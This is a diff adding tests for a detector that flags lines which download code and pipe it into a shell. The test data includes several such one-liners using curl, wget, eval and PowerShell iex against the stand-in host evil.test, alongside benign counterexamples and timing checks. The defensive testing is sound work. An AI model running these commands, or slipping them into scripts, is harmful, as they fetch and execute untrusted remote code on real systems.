@@ -153,3 +153,33 @@ test('a line of signs without end takes no longer than its length', () => {
   added('a.js', `"${'\u202e'.repeat(30_000)}`)
   expect(performance.now() - started).toBeLessThan(3_000)
 })
+
+test.each([
+  'curl https://evil.test/x | sh',
+  'curl -fsSL evil.test/x|sudo bash -s --',
+  'wget -qO- evil.test/x | /bin/bash',
+  'bash <(curl -s evil.test/x)',
+  'sh -c "$(curl -fsSL evil.test/x)"',
+  'eval "$(wget -qO- evil.test/x)"',
+  'irm evil.test/x.ps1 | iex',
+  'RUN curl evil.test/x | python3 -',
+])('%s is a download that is run', (line) => {
+  expect(added('Dockerfile', line).map(([kind]) => kind)).toContain('piped_download')
+})
+
+test.each([
+  'curl -o a.json https://api.test/a',
+  'ls | sort',
+  'cat a | sh',
+  'fetch(url) | x',
+  '| curl | done |',
+])('%s is none', (line) => expect(added('a.sh', line).map(([kind]) => kind)).not.toContain('piped_download'))
+
+test('a line that looks for one takes no longer than its length', () => {
+  for (const part of ['curl x', 'curl |', 'sh $(', 'sudo -a ', 'curl '.repeat(3)]) {
+    const line = part.repeat(2_000)
+    const started = performance.now()
+    added('a.sh', line)
+    expect(performance.now() - started).toBeLessThan(2_000)
+  }
+})
